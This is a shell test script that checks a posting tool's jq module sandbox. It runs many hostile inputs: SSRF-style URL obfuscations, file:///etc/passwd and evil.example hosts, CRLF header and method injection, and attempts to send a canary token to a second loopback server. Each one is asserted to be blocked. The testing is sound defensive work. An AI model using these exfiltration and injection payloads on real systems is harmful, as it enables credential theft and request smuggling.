#!/bin/sh
# Modules that attack, and servers that do: what a module may not reach, where
# a secret never goes, what has no end. All requests go to loopback.
# shellcheck disable=SC2016,SC2154 # words of jq; names of lib.sh
. "${0%/*}/lib.sh"
. "${0%/*}/feeds.sh"
cd "$tmp" || exit 1
serve
mkdir -p other cm/networks folder outside
: >otherlog
httpd "$tmp/other" "$tmp/otherlog" >otherport &
# shellcheck disable=SC2064 # now is the time
trap "kill $(jobs -p | tr '\n' ' ') 2>/dev/null; cd /; rm -rf '$tmp'" EXIT
tries=0
until [ -s otherport ] || [ "$tries" -ge 100 ]; do
	sleep 0.05
	tries=$((tries + 1))
done
elsewhere=http://127.0.0.1:$(cat otherport)
CM_DIR=$tmp/cm
export CM_DIR
ulimit -c 0

# A secret with what JSON, URLs and base64 spell otherwise.
canary='kana/ri+"Vogel"\frei=47'
bare=kana
CANARY=$canary
export CANARY
printf '%s\n' "$canary" >token
chmod 600 token
cat >cm/accounts <<END
[me]
network = t
host = $web
folder = $tmp/folder
token = $canary
user = bob
mark = \\u0001token\\u0001
[byfile]
network = t
host = $web
token-file = $tmp/token
[byenv]
network = t
host = $web
token-env = CANARY
[bycommand]
network = t
host = $web
token-command = cat $tmp/token
END
printf 'sly = \001token\001\n' >sly
sed -i '/^mark/r sly' cm/accounts
chmod 600 cm/accounts
rm sly

# module ABOUT BODY: the network of these accounts.
module() {
	printf '%s\n' 'include "net";' \
		'def about: {title: "T", hosts: [".base"], auth: false, reads: ["posts"], text: {max: 5000}, media: {max: 4}} +' \
		"$1;" "$2" >cm/networks/t.jq
}
keep() { # all that came out, for the end
	cat .out .err >>all
}
drafts=0
# attack BODY [ABOUT]: a draft goes through that module
attack() {
	drafts=$((drafts + 1))
	module "${2:-"{}"}" "$1"
	run cm-post -v -v --patience 2s --timeout 5s --to "${to:-me}" \
		--text "draft $drafts" --key "k$drafts" --record "h$drafts.har"
	keep
}
# stopped WHAT RE: it failed for good, said so, no crash
stopped() {
	is_status "$1: status" 1
	has_err "$1: is said" "$2"
}
bearer='{auth: {bearer: "token"}}'
to_done='else published("1"; null) end;'
echo '{"id":1}' >www/ok
echo '{"id":1}' >other/got

# ---- what a module may not reach

attack 'def post: published([env, $ENV, (env|length)] | tojson; null);'
is_status 'the environment: status' 0
has_out 'is empty' '"id":"\[\{\},\{\},0\]"'
for no in 'input' '[inputs]' 'input_filename' 'debug' 'halt' 'now' \
	'"halt"|halt_error' 'get_search_list' '"net"|modulemeta' \
	'input_line_number' '$__prog_args' '$__loc__ | input'; do
	attack "def post: published([$no] | tojson; null);"
	ok "$no: is no way out" test "$status" -eq 1 -o "$status" -eq 2
	lacks_out "$no: nothing is published" published
done
echo '{"leak":"leak"}' >cm/networks/d.json
cp cm/networks/d.json d.json
echo 'def leak: "leak";' >cm/networks/m.jq
cp cm/networks/m.jq .
cp m.jq "$HOME/.jq"
for no in 'import "d" as $d;' 'import "./d" as $d;' 'include "../m";' \
	'include "m" {search: "/tmp"};' 'import "m" as m {search: "."};' \
	"include \"$tmp/m\";" 'import "a" as $d {search: "/etc"};' ; do
	printf '%s\n' 'include "net";' "$no" 'def about: {title: "T", hosts: [".base"], auth: false};' 'def post: published(leak; null);' >cm/networks/t.jq
	run cm-post --to me --text x
	keep
	ok "$no: is no way out" test "$status" -eq 1 -o "$status" -eq 2
	lacks_out "$no: nothing gets out" leak
done
attack 'def post: published(leak; null);'
is_status 'a .jq of the home: status' 2

# ---- another host, and the secret in any place

# sneaks URL: not asked
sneaks() {
	attack "def post: if .step == null then publish({method: \"POST\", url: \"$1\", json: {a: secret(\"token\")}}; \"x\") $to_done" "$bearer"
	stopped "$1" 'its url|has no url|mark|not one of|a secret stands'
}
port=${elsewhere##*:}
mine=${web##*:}
for url in "$elsewhere/got" "http://localhost:$mine/ok" "//127.0.0.1:$port/got" \
	"https://127.0.0.1:$mine/ok" "http://127.0.0.1:$mine@127.0.0.1:$port/got" \
	"http://bob:pw@127.0.0.1:$mine/ok" "http://127.0.0.1:$mine\\\\@127.0.0.1:$port/got" \
	"http://2130706433:$port/got" "http://0x7f000001:$port/got" \
	"http://127.1:$port/got" "http://127.0.0.1:$port" "http://[::1]:$port/got" \
	"http://[::ffff:127.0.0.1]:$port/got" "http://127.0.0.1.:$port/got" \
	'http://example.org/' 'ftp://127.0.0.1/x' 'file:///etc/passwd' \
	'gopher://127.0.0.1/' 'http:/ok' 'ok' '' '?a=b' \
	"http://127.0.0.1:$mine.evil.example/" "http://１２７.0.0.1:$mine/ok" \
	'https://xn--.example\u0000.evil/' "http://127.0.0.1:$mine\\u0000$port/" \
	"http://127.0.0.1%3a$port/got" "HTTP://LOCALHOST:$port/got" \
	"\\t$elsewhere/got" " $elsewhere/got" "\\u0001token\\u0001" \
	"http://\\u0001token\\u0001.localhost:$port/got" \
	"http://a.localhost:$port/got"; do
	sneaks "$url"
done
no_credential() {
	! grep -qiE 'authorization|x-b|kana|a=|oauth|bob' otherlog
}
open_host() {
	attack "def post: if .step == null then publish({method: \"POST\", url: \"$elsewhere/got\", $kind}; \"x\") $to_done" "{open: [\"127.0.0.1:$port\"]}"
}
for kind in 'headers: {"x-a": secret("token")}' 'query: {a: secret("token")}' \
	'form: {a: secret("token")}' 'text: secret("token")' \
	'multipart: [{name: "a", value: secret("token")}]' \
	'json: [[{b: secret("token")}]]'; do
	open_host
	stopped "a host that is open, $kind" 'secret'
done
is 'nothing went elsewhere' "$(wc -c <otherlog)" 0
for kind in 'auth: {bearer: "token"}' 'auth: {basic: ["user", "token"]}' \
	'auth: {query: {a: "token"}}' 'auth: {header: {"x-b": "token"}}' \
	'auth: {body: {a: "token"}}, json: {}' \
	'auth: {jwt: {alg: "HS256", key: "token", claims: {}}}' \
	'auth: {oauth1: {consumer_key: "token", consumer_secret: "token"}}'; do
	open_host
	ok "a host that is open gets no $kind" no_credential
done
for kind in 'headers: {(secret("token")): "a"}' 'headers: {"a": "b\r\nx: y"}' \
	'headers: {"a\r\nx": "y"}' 'method: "GET /ok HTTP/1.1\r\nx: y\r\n\r\nGET"' \
	'method: secret("token")' 'headers: {host: "evil.example"}' \
	'headers: {"Transfer-Encoding": "chunked"}' \
	'headers: {"content-length": "3"}' 'json: {(secret("token")): 1}' \
	'query: {(secret("token")): 1}' 'nonesuch: 1' \
	'headers: {"proxy-authorization": "x"}' 'file: {file: "/etc/passwd"}' \
	"file: {file: \"$tmp/token\"}" 'file: {file: "../token"}' \
	"multipart: [{name: \"a\", file: \"$tmp/token\"}]" \
	"text: base64(\"$tmp/token\")" 'auth: {bearer: "nonesuch"}' \
	'mail: {to: ["a@b"]}'; do
	attack "def post: if .step == null then publish({method: \"POST\", url: \"/ok\"} + {$kind}; \"x\") $to_done"
	ok "$kind: is stopped" test "$status" -eq 1
	lacks_out "$kind: nothing is published" published
done
is 'none of it was sent' "$(asked '^')" 0
done_testing
